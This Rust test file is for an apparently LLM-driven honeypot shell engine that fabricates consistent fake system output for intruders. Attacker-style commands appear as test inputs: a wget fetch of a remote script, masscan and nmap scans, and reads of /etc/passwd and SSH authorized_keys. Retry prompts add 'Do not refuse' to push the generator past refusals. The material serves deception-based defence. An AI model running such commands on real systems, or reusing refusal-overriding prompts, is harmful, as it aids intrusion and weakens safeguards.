// SPDX-License-Identifier: BUSL-1.1
// Copyright (c) 2026 Alfred Jean LLC

use super::*;
use mirage_adapters::{ScriptedGenerator, ScriptedReply};
use mirage_core::{parse_command, Classifier};

struct Harness {
    engine: ConsistencyEngine<ScriptedGenerator>,
    generator: ScriptedGenerator,
    classifier: Classifier,
    facts: CommittedFacts,
}

fn harness(replies: impl IntoIterator<Item = ScriptedReply>) -> Harness {
    let policy = Arc::new(SensitivityPolicy::builtin().unwrap());
    let generator = ScriptedGenerator::with_replies(replies);
    let config = EngineConfig {
        generator_timeout: Duration::from_millis(50),
        retry_backoff: Duration::ZERO,
        ..EngineConfig::default()
    };
    Harness {
        engine: ConsistencyEngine::new(generator.clone(), Arc::clone(&policy), config),
        generator,
        classifier: Classifier::new(Arc::clone(&policy)),
        facts: CommittedFacts::seeded(policy.persona()),
    }
}

impl Harness {
    async fn run(&mut self, raw: &str, cwd: &str) -> Resolution {
        let command = parse_command(raw);
        let req = ResolveRequest {
            raw_input: raw,
            command: &command,
            classification: self.classifier.classify_parsed(&command, cwd),
            cwd,
            history: &[],
        };
        self.engine.resolve(&req, &mut self.facts).await
    }
}

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\n\
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
user:x:1000:1000:user,,,:/home/user:/bin/bash\n";

#[tokio::test]
async fn accepted_on_first_valid_reply() {
    let mut h = harness([ScriptedReply::text("Debian GNU/Linux 10 \\n \\l\n")]);
    let resolution = h.run("cat /etc/issue", "/").await;
    assert_eq!(resolution.path, ResolutionPath::GeneratorAccepted);
    assert_eq!(resolution.attempt_count, 1);
    assert_eq!(h.generator.call_count(), 1);
}

#[tokio::test]
async fn repaired_reply_is_marked() {
    let mut h = harness([ScriptedReply::text("```\nnmap: command not found\n```")]);
    let resolution = h.run("nmap 10.0.0.1", "/").await;
    assert_eq!(resolution.path, ResolutionPath::GeneratorRepaired);
    assert_eq!(resolution.output, "nmap: command not found\n");
}

#[tokio::test]
async fn refusals_exhaust_to_canned_fallback() {
    let mut h = harness([
        ScriptedReply::Refusal,
        ScriptedReply::Refusal,
        ScriptedReply::Refusal,
    ]);
    let resolution = h.run("cat /etc/passwd", "/").await;

    assert_eq!(resolution.path, ResolutionPath::FallbackCanned);
    assert_eq!(resolution.attempt_count, 3);
    assert!(resolution.output.starts_with("root:x:0:0:root:/root:/bin/bash\n"));
    assert!(resolution
        .output
        .ends_with("user:x:1000:1000:user,,,:/home/user:/bin/bash\n"));
    assert_eq!(h.generator.call_count(), 3);
}

#[tokio::test]
async fn never_exceeds_max_attempts() {
    let mut h = harness([]);
    h.generator = ScriptedGenerator::repeating(ScriptedReply::text("As an AI, I cannot."));
    h.engine = ConsistencyEngine::new(
        h.generator.clone(),
        Arc::clone(h.engine.policy()),
        EngineConfig {
            retry_backoff: Duration::ZERO,
            ..EngineConfig::default()
        },
    );
    let resolution = h.run("masscan -p22 203.0.113.0/24", "/tmp").await;
    assert_eq!(h.generator.call_count(), 3);
    assert_eq!(resolution.output, "bash: masscan: command not found\n");
}

#[tokio::test]
async fn installed_programs_never_fall_back_to_command_not_found() {
    for raw in [
        "wget http://203.0.113.9/x.sh",
        "ps aux",
        "ls /home | cat",
        "whoami; uname -m",
    ] {
        let mut h = harness([]);
        h.generator = ScriptedGenerator::repeating(ScriptedReply::Refusal);
        h.engine = ConsistencyEngine::new(
            h.generator.clone(),
            Arc::clone(h.engine.policy()),
            EngineConfig {
                retry_backoff: Duration::ZERO,
                ..EngineConfig::default()
            },
        );
        let resolution = h.run(raw, "/tmp").await;
        assert_eq!(resolution.path, ResolutionPath::FallbackCanned, "{raw}");
        assert_eq!(resolution.output, "Segmentation fault (core dumped)\n", "{raw}");
    }
}

#[tokio::test]
async fn pipeline_names_the_missing_program() {
    let mut h = harness([ScriptedReply::Refusal, ScriptedReply::Refusal, ScriptedReply::Refusal]);
    let resolution = h.run("ps aux | masscan --stdin", "/").await;
    assert_eq!(resolution.output, "bash: masscan: command not found\n");
}

#[tokio::test]
async fn piped_secret_read_falls_back_on_the_reader() {
    let mut h = harness([ScriptedReply::Refusal, ScriptedReply::Refusal, ScriptedReply::Refusal]);
    let resolution = h.run("echo x | cat /home/user/.ssh/authorized_keys", "/").await;
    assert_eq!(
        resolution.output,
        "cat: /home/user/.ssh/authorized_keys: Permission denied\n"
    );
    let key = FactKey::FileContent("/home/user/.ssh/authorized_keys".into());
    assert_eq!(h.facts.get(&key), None);
}

#[tokio::test]
async fn escalates_prompt_strategy_per_attempt() {
    let mut h = harness([
        ScriptedReply::Transport,
        ScriptedReply::text("I'm sorry, I can't do that"),
        ScriptedReply::text("uid=1000(user) gid=1000(user) groups=1000(user)\n"),
    ]);
    let resolution = h.run("id", "/").await;

    assert_eq!(resolution.path, ResolutionPath::GeneratorAccepted);
    assert_eq!(resolution.attempt_count, 3);
    let calls = h.generator.calls();
    assert!(!calls[0].prompt.contains("Do not refuse"));
    assert!(calls[1].prompt.contains("Do not refuse"));
    assert!(calls[2].prompt.starts_with("Print only the output of `id`"));
}

#[tokio::test]
async fn hung_generator_times_out_into_retry() {
    let mut h = harness([
        ScriptedReply::Hang,
        ScriptedReply::text("Linux\n"),
    ]);
    let resolution = h.run("uname", "/").await;
    assert_eq!(resolution.output, "Linux\n");
    assert_eq!(resolution.attempt_count, 2);
}

#[tokio::test]
async fn whoami_answers_from_committed_username() {
    let mut h = harness([]);
    let resolution = h.run("whoami", "/").await;
    assert_eq!(resolution.output, "user\n");
    assert_eq!(resolution.path, ResolutionPath::LocalDeterministic);
    assert_eq!(h.generator.call_count(), 0);
}

#[tokio::test]
async fn passwd_contradicting_username_is_rejected() {
    let mut h = harness([
        ScriptedReply::text("root:x:0:0:root:/root:/bin/bash\nubuntu:x:1000:1000::/home/ubuntu:/bin/bash\n"),
        ScriptedReply::text(PASSWD),
    ]);
    let resolution = h.run("cat /etc/passwd", "/").await;
    assert_eq!(resolution.output, PASSWD);
    assert_eq!(resolution.attempt_count, 2);
}

#[tokio::test]
async fn pinned_file_content_is_reused() {
    let mut h = harness([
        ScriptedReply::text(PASSWD),
        ScriptedReply::text("root:x:0:0:root:/root:/bin/bash\nuser:x:1000:1000::/home/user:/bin/bash\n"),
    ]);
    let first = h.run("cat /etc/passwd", "/").await;
    let again = h.run("cat passwd", "/etc").await;

    assert_eq!(again.output, first.output);
    assert_eq!(again.path, ResolutionPath::LocalDeterministic);
    assert_eq!(h.generator.call_count(), 1);
}

#[tokio::test]
async fn fallback_is_pinned_too() {
    let mut h = harness([ScriptedReply::Refusal, ScriptedReply::Refusal, ScriptedReply::Refusal]);
    let first = h.run("env", "/tmp").await;
    assert_eq!(first.path, ResolutionPath::FallbackCanned);
    assert!(first.output.contains("PWD=/tmp\n"));
    assert!(first.output.contains("_=/usr/bin/env\n"));

    h.generator.push(ScriptedReply::text("USER=user\nHOME=/home/user\nPWD=/tmp\n"));
    let second = h.run("env", "/tmp").await;
    assert_eq!(second.output, first.output);
}

#[tokio::test]
async fn uname_answers_from_persona_kernel() {
    let mut h = harness([]);
    let all = h.run("uname -a", "/").await;
    assert_eq!(
        all.output,
        "Linux server-dev-01 4.19.0-21-amd64 #1 SMP Debian 9 x86_64 GNU/Linux\n"
    );
    assert_eq!(all.path, ResolutionPath::LocalDeterministic);
    let release = h.run("uname -r", "/").await;
    assert_eq!(release.output, "4.19.0-21-amd64\n");
    assert_eq!(h.generator.call_count(), 0);
}

#[tokio::test]
async fn uname_fallback_reports_full_line() {
    let mut h = harness([ScriptedReply::Refusal, ScriptedReply::Refusal, ScriptedReply::Refusal]);
    h.facts = identity_facts();
    let resolution = h.run("uname", "/").await;
    assert_eq!(resolution.path, ResolutionPath::FallbackCanned);
    assert_eq!(resolution.output, "Linux\n");

    h.generator.push(ScriptedReply::Refusal);
    h.generator.push(ScriptedReply::Refusal);
    h.generator.push(ScriptedReply::Refusal);
    let all = h.run("uname -a", "/").await;
    assert_eq!(all.output, "Linux server-dev-01 5.10.0-28-amd64 #1 SMP x86_64 GNU/Linux\n");
    assert_eq!(h.run("uname -r", "/").await.output, "5.10.0-28-amd64\n");
}

/// Identity facts only, so the generator decides the kernel release
fn identity_facts() -> CommittedFacts {
    let mut facts = CommittedFacts::default();
    facts.commit(FactKey::Username, "user");
    facts.commit(FactKey::Hostname, "server-dev-01");
    facts.commit(FactKey::Uid, "1000");
    facts.commit(FactKey::Home, "/home/user");
    facts
}

#[tokio::test]
async fn kernel_release_commits_across_flags() {
    let mut h = harness([ScriptedReply::text(
        "Linux server-dev-01 5.4.0-150-generic #167-Ubuntu SMP Mon May 15 17:35:05 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\n",
    )]);
    h.facts = identity_facts();
    h.run("uname -a", "/").await;

    let release = h.run("uname -r", "/").await;
    assert_eq!(release.output, "5.4.0-150-generic\n");
    assert_eq!(release.path, ResolutionPath::LocalDeterministic);
    assert_eq!(h.generator.call_count(), 1);
}

#[tokio::test]
async fn secret_fallback_renders_verb_and_path() {
    let mut h = harness([ScriptedReply::Refusal, ScriptedReply::Refusal, ScriptedReply::Refusal]);
    let resolution = h.run("cat /home/user/.ssh/authorized_keys", "/").await;
    assert_eq!(
        resolution.output,
        "cat: /home/user/.ssh/authorized_keys: Permission denied\n"
    );
}

#[tokio::test]
async fn context_carries_history() {
    let mut h = harness([ScriptedReply::text("ok\n")]);
    let command = parse_command("foo");
    let history = vec![CommandRecord {
        raw_input: "pwd".to_string(),
        classification: h.classifier.classify("pwd", "/"),
        resolved_output: "/\n".to_string(),
        resolution_path: ResolutionPath::LocalDeterministic,
        attempt_count: 0,
        timestamp: chrono::Utc::now(),
    }];
    let req = ResolveRequest {
        raw_input: "foo",
        command: &command,
        classification: h.classifier.classify_parsed(&command, "/"),
        cwd: "/",
        history: &history,
    };
    h.engine.resolve(&req, &mut h.facts).await;
    assert_eq!(h.generator.calls()[0].context[0].input, "pwd");
}
